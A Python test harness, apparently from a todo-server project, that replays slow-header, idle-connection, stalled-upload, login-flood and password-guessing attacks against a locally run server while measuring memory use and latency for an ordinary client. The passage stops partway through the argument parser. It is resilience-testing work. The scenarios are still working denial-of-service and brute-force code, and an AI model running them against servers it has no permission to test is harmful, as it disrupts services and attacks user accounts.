#!/usr/bin/env python3
"""Resource-exhaustion replay against a RUNNING todo-server (Python 3.11 stdlib only).

It starts nothing: point it at a server you started yourself.

    scripts/attack.sh --base http://127.0.0.1:18400 --pid <server pid> --token <bearer token>
    scripts/attack.sh ... --scenarios slow-headers,idle --slow-conns 500 --slow-duration 20

Scenarios (``--scenarios``, comma-separated, default all, run in this order):

  slow-headers     N connections each sending a request header one byte per second, never
                   finishing it; when (if ever) does the server close each one?
  idle             N connections that send nothing; when does the server close them?
  short-body       M authenticated POST /api/tasks with Content-Length: 100 that send 13 bytes and
                   stall; when are they closed, and with which status?
  stalled-uploads  N authenticated POST /api/tasks announcing a 1 MiB body, sending all of it but
                   the last byte, then stalling; server RSS peak.
  logins           registers attack-<random>@example.com, then N simultaneous correct logins;
                   status counts and server RSS peak.
  guess            one client guessing that account's password as fast as it can for D seconds:
                   guesses/s, 429 count, and the Retry-After / RateLimit / RateLimit-Policy headers.

During the first five a victim (``--victim-keepalive`` keep-alive connections plus
``--victim-fresh`` loops opening a new connection per request, all using ``--token``) issues
GET /api/tasks?limit=10 continuously; its p50/p99 and errors are reported per scenario.
With ``--pid`` the server's VmRSS is sampled from /proc/PID/status (every ``--rss-interval`` s)
and VmHWM read; the table shows RSS at the start, the peak during the scenario and after it.
After each scenario the script waits (at most ``--settle-max`` s, sending a trickle of GET /healthz)
for RSS to come back near its value before the first scenario, so one scenario's leftover memory
does not hide the next one's peak.

Every loop is bounded by a count or a duration, every await has a timeout, and each scenario has
a hard cap (its duration plus ``--grace``). Connection refused / reset / timeouts are counted,
never fatal. One summary table is printed at the end (details per scenario above it).
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import json
import os
import random
import resource
import string
import sys
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit

MIB = 1024 * 1024

SCENARIOS = ["slow-headers", "idle", "short-body", "stalled-uploads", "logins", "guess"]


# --------------------------------------------------------------------------------------------
# small helpers


def now() -> float:
    return time.monotonic()


def classify(e: BaseException) -> str:
    """A short name for why a socket operation failed."""
    if isinstance(e, asyncio.TimeoutError):
        return "timeout"
    if isinstance(e, ConnectionRefusedError):
        return "refused"
    if isinstance(e, ConnectionResetError):
        return "reset"
    if isinstance(e, BrokenPipeError):
        return "broken-pipe"
    if isinstance(e, asyncio.IncompleteReadError):
        return "eof"
    if isinstance(e, asyncio.LimitOverrunError):
        return "overrun"
    if isinstance(e, OSError):
        return f"oserror-{e.errno}"
    return type(e).__name__


def pct(values: list[float], q: float) -> float | None:
    if not values:
        return None
    s = sorted(values)
    return s[min(len(s) - 1, int(round(q * (len(s) - 1))))]


def fmt_s(v: float | None) -> str:
    return "-" if v is None else f"{v:.1f}s"


def fmt_ms(v: float | None) -> str:
    if v is None:
        return "-"
    return f"{v * 1000:.0f}" if v >= 0.01 else f"{v * 1000:.1f}"


def fmt_counter(c: collections.Counter) -> str:
    return " ".join(f"{k}:{v}" for k, v in sorted(c.items(), key=lambda kv: str(kv[0]))) or "-"


def raise_nofile() -> tuple[int, int]:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and soft < hard:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        except (ValueError, OSError) as e:
            print(f"warning: could not raise RLIMIT_NOFILE: {e}", file=sys.stderr)
    return resource.getrlimit(resource.RLIMIT_NOFILE)


async def close_writer(w: asyncio.StreamWriter | None) -> None:
    """Drop a connection at once (abort: no lingering FIN_WAIT, never blocks)."""
    if w is None:
        return
    try:
        w.transport.abort()
    except Exception:
        pass


# --------------------------------------------------------------------------------------------
# HTTP/1.1 over raw asyncio streams


@dataclass
class Target:
    host: str
    port: int

    @property
    def hostport(self) -> str:
        return f"{self.host}:{self.port}"


async def connect(t: Target, timeout: float):
    return await asyncio.wait_for(asyncio.open_connection(t.host, t.port, limit=1 << 16), timeout)


def build_request(t: Target, method: str, path: str, headers: dict[str, str] | None = None,
                  body: bytes | None = None, close: bool = False) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {t.hostport}"]
    for k, v in (headers or {}).items():
        lines.append(f"{k}: {v}")
    if body is not None:
        lines.append(f"Content-Length: {len(body)}")
    if close:
        lines.append("Connection: close")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + (body or b"")


@dataclass
class Response:
    status: int
    headers: dict[str, str]  # lower-cased names; repeated headers joined with ", "
    body: bytes

    @property
    def keep_alive(self) -> bool:
        return "close" not in self.headers.get("connection", "").lower()


async def read_response(r: asyncio.StreamReader, timeout: float, head_only: bool = False) -> Response:
    """Reads one response; raises on timeout / EOF / reset. The whole read is bounded by timeout."""
    deadline = now() + timeout

    def left() -> float:
        return max(0.001, deadline - now())

    head = await asyncio.wait_for(r.readuntil(b"\r\n\r\n"), left())
    lines = head.decode("latin-1").split("\r\n")
    parts = lines[0].split(" ", 2)
    if len(parts) < 2 or not parts[0].startswith("HTTP/"):
        raise ValueError(f"bad status line {lines[0]!r}")
    status = int(parts[1])
    headers: dict[str, str] = {}
    for line in lines[1:]:
        if not line:
            continue
        k, _, v = line.partition(":")
        k = k.strip().lower()
        v = v.strip()
        headers[k] = f"{headers[k]}, {v}" if k in headers else v
    body = b""
    if head_only or status in (204, 304) or 100 <= status < 200:
        return Response(status, headers, body)
    if "chunked" in headers.get("transfer-encoding", "").lower():
        chunks = []
        for _ in range(100_000):  # bounded
            size_line = await asyncio.wait_for(r.readuntil(b"\r\n"), left())
            size = int(size_line.split(b";")[0].strip() or b"0", 16)
            if size == 0:
                # trailers until an empty line
                for _ in range(100):
                    if await asyncio.wait_for(r.readuntil(b"\r\n"), left()) == b"\r\n":
                        break
                break
            chunks.append(await asyncio.wait_for(r.readexactly(size), left()))
            await asyncio.wait_for(r.readexactly(2), left())
        body = b"".join(chunks)
    elif "content-length" in headers:
        n = int(headers["content-length"])
        body = await asyncio.wait_for(r.readexactly(n), left()) if n else b""
    else:
        body = await asyncio.wait_for(r.read(4 * MIB), left())
    return Response(status, headers, body)


async def request(t: Target, method: str, path: str, headers=None, body: bytes | None = None,
                  timeout: float = 10.0) -> Response:
    """One request on a fresh connection (Connection: close)."""
    r = w = None
    try:
        r, w = await connect(t, timeout)
        w.write(build_request(t, method, path, headers, body, close=True))
        await asyncio.wait_for(w.drain(), timeout)
        return await read_response(r, timeout)
    finally:
        await close_writer(w)


# --------------------------------------------------------------------------------------------
# server memory


def read_mem(pid: int) -> tuple[float, float] | None:
    """(VmRSS, VmHWM) in MiB, or None when the process is gone."""
    try:
        with open(f"/proc/{pid}/status") as f:
            text = f.read()
    except OSError:
        return None
    vals = {}
    for line in text.splitlines():
        if line.startswith(("VmRSS:", "VmHWM:")):
            k, v = line.split(":", 1)
            vals[k] = int(v.split()[0]) / 1024.0
    if "VmRSS" not in vals:  # zombie
        return None
    return vals["VmRSS"], vals.get("VmHWM", 0.0)


class RssSampler:
    def __init__(self, pid: int | None, interval: float):
        self.pid = pid
        self.interval = interval
        self.start = self.peak = self.end = None
        self.hwm_start = self.hwm_end = None
        self.died = False

    def sample(self) -> None:
        if self.pid is None:
            return
        m = read_mem(self.pid)
        if m is None:
            self.died = True
            return
        rss, hwm = m
        if self.start is None:
            self.start, self.hwm_start = rss, hwm
        self.peak = rss if self.peak is None else max(self.peak, rss)
        self.end, self.hwm_end = rss, hwm

    async def run(self, stop: asyncio.Event) -> None:
        self.sample()
        while not stop.is_set() and self.pid is not None:
            try:
                await asyncio.wait_for(stop.wait(), self.interval)
            except asyncio.TimeoutError:
                pass
            self.sample()

    def true_peak(self) -> float | None:
        """Sampled peak, or VmHWM when the high-water mark rose during the scenario (a spike
        between two samples)."""
        if self.peak is None:
            return None
        if self.hwm_end is not None and self.hwm_start is not None and self.hwm_end > self.hwm_start:
            return max(self.peak, self.hwm_end)
        return self.peak


# --------------------------------------------------------------------------------------------
# the victim: an ordinary client reading its tasks during an attack


class Victim:
    def __init__(self, t: Target, args):
        self.t = t
        self.args = args
        self.lat = {"keepalive": [], "fresh": []}
        self.err = {"keepalive": collections.Counter(), "fresh": collections.Counter()}
        path = f"/api/tasks?limit={args.victim_limit}"
        auth = {"Authorization": f"Bearer {args.token}"} if args.token else {}
        self.req_ka = build_request(t, "GET", path, auth)
        self.req_fresh = build_request(t, "GET", path, auth, close=True)

    async def keepalive_loop(self, stop: asyncio.Event) -> None:
        a = self.args
        r = w = None
        try:
            for _ in range(10_000_000):  # bounded; stop normally ends it
                if stop.is_set():
                    return
                t0 = now()
                try:
                    if w is None:
                        r, w = await connect(self.t, a.victim_timeout)
                    w.write(self.req_ka)
                    await asyncio.wait_for(w.drain(), a.victim_timeout)
                    resp = await read_response(r, max(0.001, a.victim_timeout - (now() - t0)))
                    if resp.status == 200:
                        self.lat["keepalive"].append(now() - t0)
                    else:
                        self.err["keepalive"][f"status-{resp.status}"] += 1
                    if not resp.keep_alive:
                        await close_writer(w)
                        r = w = None
                except Exception as e:  # noqa: BLE001 - counted, never fatal
                    if stop.is_set():
                        return
                    self.err["keepalive"][classify(e)] += 1
                    await close_writer(w)
                    r = w = None
                    await asyncio.sleep(a.victim_error_pause)
                if a.victim_interval > 0:
                    await asyncio.sleep(a.victim_interval)
        finally:
            await close_writer(w)

    async def fresh_loop(self, stop: asyncio.Event) -> None:
        a = self.args
        for _ in range(10_000_000):
            if stop.is_set():
                return
            t0 = now()
            w = None
            try:
                r, w = await connect(self.t, a.victim_timeout)
                w.write(self.req_fresh)
                await asyncio.wait_for(w.drain(), a.victim_timeout)
                resp = await read_response(r, max(0.001, a.victim_timeout - (now() - t0)))
                if resp.status == 200:
                    self.lat["fresh"].append(now() - t0)
                else:
                    self.err["fresh"][f"status-{resp.status}"] += 1
            except Exception as e:  # noqa: BLE001
                if stop.is_set():
                    return
                self.err["fresh"][classify(e)] += 1
                await asyncio.sleep(a.victim_error_pause)
            finally:
                await close_writer(w)
            if a.victim_interval > 0:
                await asyncio.sleep(a.victim_interval)

    def tasks(self, stop: asyncio.Event) -> list[asyncio.Task]:
        ts = [asyncio.create_task(self.keepalive_loop(stop)) for _ in range(self.args.victim_keepalive)]
        ts += [asyncio.create_task(self.fresh_loop(stop)) for _ in range(self.args.victim_fresh)]
        return ts

    def summary(self, kind: str) -> str:
        lat = self.lat[kind]
        errs = sum(self.err[kind].values())
        if not lat and not errs:
            return "-"
        return f"{fmt_ms(pct(lat, .5))}/{fmt_ms(pct(lat, .99))} ms n={len(lat)} err={errs}"


# --------------------------------------------------------------------------------------------
# attack connections: open, send something (or not), and watch for the server closing


@dataclass
class ConnRecord:
    connect_error: str | None = None
    t0: float | None = None            # when connected
    closed_after: float | None = None  # seconds after connecting that the server closed it
    close_how: str | None = None       # eof / reset / write-<err>
    status: int | None = None          # status line the server sent, if any
    stage_done_at: float | None = None # scenario-specific (e.g. upload sent up to its last byte)
    send_error: str | None = None


def mark_closed(rec: ConnRecord, how: str) -> None:
    if rec.closed_after is None and rec.t0 is not None:
        rec.closed_after = now() - rec.t0
        rec.close_how = how


async def watch_close(r: asyncio.StreamReader, rec: ConnRecord, deadline: float) -> None:
    """Reads whatever the server sends until it closes the connection or the deadline passes."""
    buf = b""
    for _ in range(1_000_000):
        left = deadline - now()
        if left <= 0:
            return
        try:
            data = await asyncio.wait_for(r.read(65536), left)
        except asyncio.TimeoutError:
            return
        except Exception as e:  # noqa: BLE001
            mark_closed(rec, classify(e))
            return
        if not data:
            mark_closed(rec, "eof")
            return
        if rec.status is None and len(buf) < 64:
            buf += data[:64]
            if buf.startswith(b"HTTP/") and b" " in buf:
                try:
                    rec.status = int(buf.split(b" ", 2)[1][:3])
                except ValueError:
                    pass


async def attack_conn(t: Target, rec: ConnRecord, sender, deadline: float,
                      connect_sem: asyncio.Semaphore, connect_timeout: float,
                      connected: asyncio.Event | None = None) -> None:
    w = None
    try:
        async with connect_sem:
            if now() >= deadline:
                rec.connect_error = "no-time"
                return
            try:
                r, w = await connect(t, min(connect_timeout, max(0.001, deadline - now())))
            except Exception as e:  # noqa: BLE001
                rec.connect_error = classify(e)
                return
        rec.t0 = now()
        watcher = asyncio.create_task(watch_close(r, rec, deadline))
        send = asyncio.create_task(sender(w, rec, deadline))
        try:
            await asyncio.wait({watcher}, timeout=max(0.0, deadline - now()))
        finally:
            for task in (send, watcher):
                task.cancel()
            await asyncio.gather(send, watcher, return_exceptions=True)
    finally:
        await close_writer(w)


async def write_bounded(w: asyncio.StreamWriter, data: bytes, deadline: float) -> None:
    w.write(data)
    await asyncio.wait_for(w.drain(), max(0.001, deadline - now()))


def conn_outcome(recs: list[ConnRecord], duration: float) -> tuple[str, list[str]]:
    """One table cell, plus detail lines."""
    ok = [x for x in recs if x.connect_error is None]
    failed = collections.Counter(x.connect_error for x in recs if x.connect_error is not None)
    closed = [x for x in ok if x.closed_after is not None]
    still = len(ok) - len(closed)
    times = [x.closed_after for x in closed]
    parts = []
    if closed:
        parts.append(f"closed {len(closed)} after p50 {fmt_s(pct(times, .5))} "
                     f"(min {fmt_s(min(times))}, max {fmt_s(max(times))})")
    parts.append(f"open at {duration:.0f}s: {still}")
    if failed:
        parts.append(f"connect-fail {sum(failed.values())}")
    statuses = collections.Counter(x.status for x in ok if x.status is not None)
    if statuses:
        parts.append("got " + fmt_counter(statuses))
    details = [
        f"connected {len(ok)}/{len(recs)}; connect failures: {fmt_counter(failed)}",
        f"closed by server: {len(closed)} ({fmt_counter(collections.Counter(x.close_how for x in closed))}); "
        f"still open at the end: {still}",
    ]
    if closed:
        details.append("close times p50/p90/max: "
                       f"{fmt_s(pct(times, .5))}/{fmt_s(pct(times, .9))}/{fmt_s(max(times))}")
    details.append(f"responses received: {fmt_counter(statuses)}; no response: "
                   f"{sum(1 for x in ok if x.status is None)}")
    send_errs = collections.Counter(x.send_error for x in ok if x.send_error)
    if send_errs:
        details.append(f"send errors: {fmt_counter(send_errs)}")
    return "; ".join(parts), details


# --------------------------------------------------------------------------------------------
# scenario plumbing


@dataclass
class Result:
    name: str
    conns: int
    outcome: str = "-"
    details: list[str] = field(default_factory=list)
    victim_ka: str = "-"
    victim_fresh: str = "-"
    rss: str = "-"


class Ctx:
    def __init__(self, args, t: Target):
        self.args = args
        self.t = t
        self.email: str | None = None
        self.password: str | None = None
        self.accounts_off = False
        self.baseline_rss: float | None = None  # server RSS before the first scenario


async def run_scenario(ctx: Ctx, name: str, conns: int, body, duration: float, with_victim: bool) -> Result:
    """Runs body(ctx, result) with the RSS sampler and (optionally) the victim around it."""
    a = ctx.args
    res = Result(name, conns)
    stop = asyncio.Event()
    sampler = RssSampler(a.pid, a.rss_interval)
    victim = Victim(ctx.t, a) if with_victim else None
    bg = [asyncio.create_task(sampler.run(stop))]
    if victim:
        bg += victim.tasks(stop)
    t_start = now()
    try:
        await asyncio.wait_for(body(ctx, res), duration + a.grace)
    except asyncio.TimeoutError:
        res.details.append(f"scenario hit its hard cap ({duration + a.grace:.0f}s) and was cancelled")
        if res.outcome == "-":
            res.outcome = "hard cap hit"
    except Exception as e:  # noqa: BLE001
        res.details.append(f"scenario error: {classify(e)}: {e}")
    res.details.append(f"scenario wall time {now() - t_start:.1f}s")
    stop.set()
    await asyncio.gather(*bg, return_exceptions=True)
    if victim:
        res.victim_ka = victim.summary("keepalive")
        res.victim_fresh = victim.summary("fresh")
        for kind in ("keepalive", "fresh"):
            if victim.err[kind]:
                res.details.append(f"victim {kind} errors: {fmt_counter(victim.err[kind])}")
            lat = victim.lat[kind]
            if lat:
                res.details.append(f"victim {kind}: n={len(lat)} p50 {fmt_ms(pct(lat, .5))} ms, "
                                   f"p99 {fmt_ms(pct(lat, .99))} ms, max {fmt_ms(max(lat))} ms")
    # settle, then see whether memory came back
    await asyncio.sleep(a.settle)
    after = read_mem(a.pid) if a.pid else None
    if after is not None and ctx.baseline_rss is not None:
        # Wait (bounded) for RSS to come back near the run's starting RSS, so the next scenario's
        # peak is its own and not this one's leftover.
        target = ctx.baseline_rss + a.settle_rss_margin
        t_wait = now()
        while after is not None and after[0] > target and now() - t_wait < a.settle_max:
            # A trickle of requests: an allocator may only reclaim memory freed by other threads
            # when the server allocates again, so a silent server can sit on it indefinitely.
            for _ in range(4):
                try:
                    await request(ctx.t, "GET", "/healthz", timeout=2.0)
                except Exception:  # noqa: BLE001
                    pass
                await asyncio.sleep(0.1)
            after = read_mem(a.pid)
        if after is not None and now() - t_wait >= 0.5:
            state = "back to" if after[0] <= target else "STILL at"
            res.details.append(f"RSS {state} {after[0]:.0f} MiB {a.settle + now() - t_wait:.1f}s after the "
                               f"scenario (target <= {target:.0f} MiB, waited at most {a.settle_max:.0f}s)")
    if a.pid:
        peak = sampler.true_peak()
        if peak is None or sampler.died or after is None:
            res.rss = "server gone"
            res.details.append("SERVER PROCESS GONE during/after this scenario")
        else:
            res.rss = f"{sampler.start:.0f}/{peak:.0f}/{after[0]:.0f}"
            res.details.append(f"RSS MiB start {sampler.start:.1f}, sampled peak {sampler.peak:.1f}, "
                               f"VmHWM {sampler.hwm_start:.1f}->{sampler.hwm_end:.1f}, "
                               f"after settling {after[0]:.1f}")
    return res


# ---- 1. slow headers

async def sc_slow_headers(ctx: Ctx, res: Result) -> None:
    a, t = ctx.args, ctx.t
    prefix = f"GET /api/tasks HTTP/1.1\r\nHost: {t.hostport}\r\nX-Slow: ".encode()

    async def sender(w, rec, deadline):
        for i in range(1_000_000):
            if now() >= deadline:
                return
            b = prefix[i:i + 1] if i < len(prefix) else b"a"
            try:
                await write_bounded(w, b, deadline)
            except Exception as e:  # noqa: BLE001
                rec.send_error = classify(e)
                mark_closed(rec, "write-" + classify(e))
                return
            await asyncio.sleep(a.slow_interval)

    await _conn_attack(ctx, res, a.slow_conns, sender, a.slow_duration)


# ---- 2. idle

async def sc_idle(ctx: Ctx, res: Result) -> None:
    async def sender(w, rec, deadline):
        return

    await _conn_attack(ctx, res, ctx.args.idle_conns, sender, ctx.args.idle_duration)


# ---- 3. short body

async def sc_short_body(ctx: Ctx, res: Result) -> None:
    a, t = ctx.args, ctx.t
    body13 = b'{"title": "ab'
    assert len(body13) == 13
    head = build_request(t, "POST", "/api/tasks", {
        "Authorization": f"Bearer {a.token}",
        "Content-Type": "application/json",
        "Content-Length": "100",
    })

    async def sender(w, rec, deadline):
        try:
            await write_bounded(w, head + body13, deadline)
            rec.stage_done_at = now()
        except Exception as e:  # noqa: BLE001
            rec.send_error = classify(e)

    await _conn_attack(ctx, res, a.short_conns, sender, a.short_duration)


# ---- 4. stalled uploads

async def sc_stalled_uploads(ctx: Ctx, res: Result) -> None:
    a, t = ctx.args, ctx.t
    size = a.upload_bytes
    body = b'{"title":"x"}' + b" " * (size - 13)
    head = build_request(t, "POST", "/api/tasks", {
        "Authorization": f"Bearer {a.token}",
        "Content-Type": "application/json",
        "Content-Length": str(size),
    })
    upload_sem = asyncio.Semaphore(a.upload_concurrency)
    payload = memoryview(head + body[:-1])
    chunk = 64 * 1024
    t_begin = now()

    async def sender(w, rec, deadline):
        try:
            async with upload_sem:
                for off in range(0, len(payload), chunk):
                    await write_bounded(w, payload[off:off + chunk], deadline)
            rec.stage_done_at = now() - t_begin
        except Exception as e:  # noqa: BLE001
            rec.send_error = classify(e)
            if not isinstance(e, asyncio.TimeoutError):
                mark_closed(rec, "write-" + classify(e))

    recs = await _conn_attack(ctx, res, a.upload_conns, sender, a.upload_duration)
    done = [x.stage_done_at for x in recs if x.stage_done_at is not None]
    res.details.append(f"uploads stalled at their last byte: {len(done)}/{len(recs)}"
                       + (f", the last after {max(done):.1f}s" if done else ""))
    res.outcome = f"stalled {len(done)}; " + res.outcome


async def _conn_attack(ctx: Ctx, res: Result, n: int, sender, duration: float) -> list[ConnRecord]:
    a = ctx.args
    deadline = now() + duration
    sem = asyncio.Semaphore(a.connect_concurrency)
    recs = [ConnRecord() for _ in range(n)]
    tasks = [asyncio.create_task(attack_conn(ctx.t, rec, sender, deadline, sem, a.connect_timeout))
             for rec in recs]
    try:
        await asyncio.gather(*tasks, return_exceptions=True)
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
    res.outcome, details = conn_outcome(recs, duration)
    res.details.extend(details)
    return recs


# ---- account setup

async def ensure_account(ctx: Ctx) -> bool:
    if ctx.email or ctx.accounts_off:
        return ctx.email is not None
    a = ctx.args
    tag = "".join(random.choices(string.ascii_lowercase + string.digits, k=10))
    email = f"attack-{tag}@example.com"
    password = "correct-horse-" + tag
    try:
        resp = await request(ctx.t, "POST", "/api/auth/register",
                             {"Content-Type": "application/json"},
                             json.dumps({"email": email, "password": password}).encode(),
                             timeout=a.request_timeout)
    except Exception as e:  # noqa: BLE001
        print(f"register failed: {classify(e)}", file=sys.stderr)
        return False
    if resp.status == 404:
        ctx.accounts_off = True
        print("built-in accounts are off (register answered 404)", file=sys.stderr)
        return False
    if resp.status not in (200, 201):
        print(f"register answered {resp.status}: {resp.body[:200]!r}", file=sys.stderr)
        return False
    ctx.email, ctx.password = email, password
    print(f"registered {email}", file=sys.stderr)
    return True


def login_body(email: str, password: str) -> bytes:
    return json.dumps({"email": email, "password": password}).encode()


# ---- 5. logins

async def sc_logins(ctx: Ctx, res: Result) -> None:
    a, t = ctx.args, ctx.t
    if not await ensure_account(ctx):
        res.outcome = "skipped (no account: register failed or accounts off)"
        return
    req = build_request(t, "POST", "/api/auth/login", {"Content-Type": "application/json"},
                        login_body(ctx.email, ctx.password), close=True)
    n = a.login_conns
    sem = asyncio.Semaphore(a.connect_concurrency)
    go = asyncio.Event()
    statuses: collections.Counter = collections.Counter()
    lat: list[float] = []
    ready = [0]
    all_ready = asyncio.Event()
    conn_fail: collections.Counter = collections.Counter()

    async def one():
        w = None
        try:
            async with sem:
                try:
                    r, w = await connect(t, a.connect_timeout)
                except Exception as e:  # noqa: BLE001
                    conn_fail[classify(e)] += 1
                    return
                finally:
                    ready[0] += 1
                    if ready[0] == n:
                        all_ready.set()
            try:
                await asyncio.wait_for(go.wait(), a.connect_timeout + 5)
            except asyncio.TimeoutError:
                pass
            t0 = now()
            try:
                w.write(req)
                await asyncio.wait_for(w.drain(), a.login_timeout)
                resp = await read_response(r, a.login_timeout)
                statuses[resp.status] += 1
                lat.append(now() - t0)
            except Exception as e:  # noqa: BLE001
                statuses[classify(e)] += 1
        finally:
            await close_writer(w)

    tasks = [asyncio.create_task(one()) for _ in range(n)]
    try:
        await asyncio.wait_for(all_ready.wait(), a.connect_timeout + 5)
    except asyncio.TimeoutError:
        pass
    t_go = now()
    go.set()
    try:
        await asyncio.gather(*tasks, return_exceptions=True)
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
    wall = now() - t_go
    res.outcome = (f"{fmt_counter(statuses)}; all answered in {wall:.1f}s"
                   + (f"; connect-fail {sum(conn_fail.values())}" if conn_fail else ""))
    res.details.append(f"login statuses: {fmt_counter(statuses)}; connect failures: {fmt_counter(conn_fail)}")
    if lat:
        res.details.append(f"login latency p50 {fmt_s(pct(lat, .5))}, p99 {fmt_s(pct(lat, .99))}, "
                           f"max {fmt_s(max(lat))}; throughput {len(lat) / max(wall, 1e-9):.1f}/s")
    res.details.append(f"200: {statuses.get(200, 0)}, 429: {statuses.get(429, 0)}, 503: {statuses.get(503, 0)}")


# ---- 6. guess

async def sc_guess(ctx: Ctx, res: Result) -> None:
    a, t = ctx.args, ctx.t
    if not await ensure_account(ctx):
        res.outcome = "skipped (no account: register failed or accounts off)"
        return
    statuses: collections.Counter = collections.Counter()
    first_429: Response | None = None
    reconnects = 0
    r = w = None
    t0 = now()
    end = t0 + a.guess_duration
    n = 0
    try:
        for i in range(10_000_000):
            if now() >= end:
                break
            try:
                if w is None:
                    r, w = await connect(t, a.request_timeout)
                    reconnects += 1
                w.write(build_request(t, "POST", "/api/auth/login", {"Content-Type": "application/json"},
                                      login_body(ctx.email, f"wrong-guess-{i:08d}")))
                await asyncio.wait_for(w.drain(), a.request_timeout)
                resp = await read_response(r, a.request_timeout)
                n += 1
                statuses[resp.status] += 1
                if resp.status == 429 and first_429 is None:
                    first_429 = resp
                if not resp.keep_alive:
                    await close_writer(w)
                    r = w = None
            except Exception as e:  # noqa: BLE001
                statuses[classify(e)] += 1
                await close_writer(w)
                r = w = None
                await asyncio.sleep(0.05)
    finally:
        await close_writer(w)
    elapsed = now() - t0
    rate = n / max(elapsed, 1e-9)
    if first_429 is not None:
        h = first_429.headers
        hdrs = ", ".join(f"{k}={'yes' if k.lower() in h else 'NO'}"
                         for k in ("Retry-After", "RateLimit", "RateLimit-Policy"))
        res.details.append("first 429 headers: " + "; ".join(
            f"{k}: {h[k.lower()]}" for k in ("Retry-After", "RateLimit", "RateLimit-Policy") if k.lower() in h))
    else:
        hdrs = "no 429 seen"
    # can the real owner still sign in right after the guessing?
    try:
        owner = await request(t, "POST", "/api/auth/login", {"Content-Type": "application/json"},
                              login_body(ctx.email, ctx.password), timeout=a.request_timeout)
        owner_s = str(owner.status)
    except Exception as e:  # noqa: BLE001
        owner_s = classify(e)
    res.outcome = f"{rate:.1f} guesses/s; 429: {statuses.get(429, 0)}/{n}; {hdrs}"
    res.details.append(f"{n} answers in {elapsed:.1f}s over {reconnects} connection(s): {fmt_counter(statuses)}")
    res.details.append(f"correct-password login right after guessing: {owner_s}")


SCENARIO_FUNCS = {
    "slow-headers": (sc_slow_headers, lambda a: a.slow_conns, lambda a: a.slow_duration, True),
    "idle": (sc_idle, lambda a: a.idle_conns, lambda a: a.idle_duration, True),
    "short-body": (sc_short_body, lambda a: a.short_conns, lambda a: a.short_duration, True),
    "stalled-uploads": (sc_stalled_uploads, lambda a: a.upload_conns, lambda a: a.upload_duration, True),
    "logins": (sc_logins, lambda a: a.login_conns, lambda a: a.login_timeout + a.connect_timeout + 5, True),
    "guess": (sc_guess, lambda a: 1, lambda a: a.guess_duration + 2 * a.request_timeout, False),
}


# --------------------------------------------------------------------------------------------
# output


def print_table(results: list[Result], pid: int | None) -> None:
    cols = ["scenario", "conns", "attack connections", "victim keep-alive p50/p99",
            "victim fresh-conn p50/p99", "RSS MiB start/peak/after"]
    rows = [[r.name, str(r.conns), r.outcome, r.victim_ka, r.victim_fresh, r.rss] for r in results]
    widths = [max(len(c), *(len(row[i]) for row in rows)) if rows else len(c) for i, c in enumerate(cols)]
    line = "+".join("-" * (w + 2) for w in widths)
    print("\n" + "=" * len(line))
    print("SUMMARY" + (f" (server pid {pid})" if pid else " (no --pid: RSS not measured)"))
    print(line)
    print("|".join(f" {c:<{w}} " for c, w in zip(cols, widths)))
    print(line)
    for row in rows:
        print("|".join(f" {c:<{w}} " for c, w in zip(row, widths)))
    print(line)


async def amain(args) -> int:
    u = urlsplit(args.base)
    if u.scheme != "http" or not u.hostname:
        print("--base must be http://HOST:PORT", file=sys.stderr)
        return 2
    t = Target(u.hostname, u.port or 80)
    ctx = Ctx(args, t)
    wanted = [s.strip() for s in args.scenarios.split(",") if s.strip()]
    for s in wanted:
        if s not in SCENARIO_FUNCS:
            print(f"unknown scenario {s!r}; choose from {','.join(SCENARIOS)}", file=sys.stderr)
            return 2
    # preflight: alive, and does the token work?
    try:
        h = await request(t, "GET", "/healthz", timeout=args.request_timeout)
        print(f"preflight: /healthz {h.status}", file=sys.stderr)
    except Exception as e:  # noqa: BLE001
        print(f"preflight: server unreachable ({classify(e)})", file=sys.stderr)
        return 1
    if args.token:
        try:
            v = await request(t, "GET", "/api/tasks?limit=1", {"Authorization": f"Bearer {args.token}"},
                              timeout=args.request_timeout)
            print(f"preflight: GET /api/tasks with --token: {v.status}", file=sys.stderr)
            if v.status != 200:
                print("warning: --token is not accepted; victim requests will count as errors", file=sys.stderr)
        except Exception as e:  # noqa: BLE001
            print(f"preflight: token check failed ({classify(e)})", file=sys.stderr)
    else:
        print("warning: no --token: victim and authenticated POSTs will be answered 401", file=sys.stderr)
    if args.pid and read_mem(args.pid) is None:
        print(f"warning: no /proc/{args.pid}/status; RSS not measured", file=sys.stderr)
        args.pid = None

    if args.pid:
        m = read_mem(args.pid)
        ctx.baseline_rss = m[0] if m else None
        if m:
            print(f"server RSS before the first scenario: {m[0]:.1f} MiB (VmHWM {m[1]:.1f})", file=sys.stderr)
    results: list[Result] = []
    order = [s for s in SCENARIOS if s in wanted]
    for name in order:
        func, conns, dur, victim = SCENARIO_FUNCS[name]
        if args.pid and read_mem(args.pid) is None:
            results.append(Result(name, conns(args), outcome="skipped: server process gone"))
            continue
        print(f"\n--- {name}: {conns(args)} connection(s), up to {dur(args):.0f}s", file=sys.stderr, flush=True)
        res = await run_scenario(ctx, name, conns(args), func, dur(args), victim)
        print(f"[{name}]")
        for d in res.details:
            print(f"  {d}")
        sys.stdout.flush()
        results.append(res)
    print_table(results, args.pid)
    return 0


def parse_args(argv=None):
    p = argparse.ArgumentParser(
        description="Replay slow-client / memory / login-abuse attacks against a running todo-server.",
        formatter_class=argparse.ArgumentDefaultsHelpFormatter)
    p.add_argument("--base", default="http://127.0.0.1:8000", help="server base URL (http only)")
    p.add_argument("--pid", type=int, help="server pid, to read VmRSS/VmHWM from /proc/PID/status")
    p.add_argument("--token", default=os.environ.get("TODO_TOKEN", ""),
                   help="bearer token for the victim and the authenticated POSTs (env TODO_TOKEN)")
    p.add_argument("--scenarios", default=",".join(SCENARIOS), help="comma-separated subset of " + ",".join(SCENARIOS))
    g = p.add_argument_group("scenario sizes and durations")
    g.add_argument("--slow-conns", type=int, default=2000)
    g.add_argument("--slow-duration", type=float, default=40.0)
    g.add_argument("--slow-interval", type=float, default=1.0, help="seconds between header bytes")
    g.add_argument("--idle-conns", type=int, default=500)
    g.add_argument("--idle-duration", type=float, default=40.0)
    g.add_argument("--short-conns", type=int, default=200)
